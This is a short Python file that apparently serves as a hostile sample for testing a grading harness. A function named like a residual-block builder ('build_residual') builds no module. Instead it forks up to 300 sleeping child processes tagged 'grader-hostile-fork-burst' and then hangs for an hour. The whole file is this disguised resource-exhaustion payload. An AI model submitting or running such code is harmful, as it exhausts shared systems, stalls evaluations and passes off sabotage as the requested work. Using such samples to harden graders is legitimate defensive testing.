# A burst of forks, each child sleeping; the builder never returns a module.
import os
import time


def build_residual(in_channels=256, bottleneck_channels=64):
    for _ in range(300):
        try:
            if os.fork() == 0:
                os.execvp("sleep", ["sleep", "600", "grader-hostile-fork-burst"])
        except OSError:
            break
    time.sleep(3600)
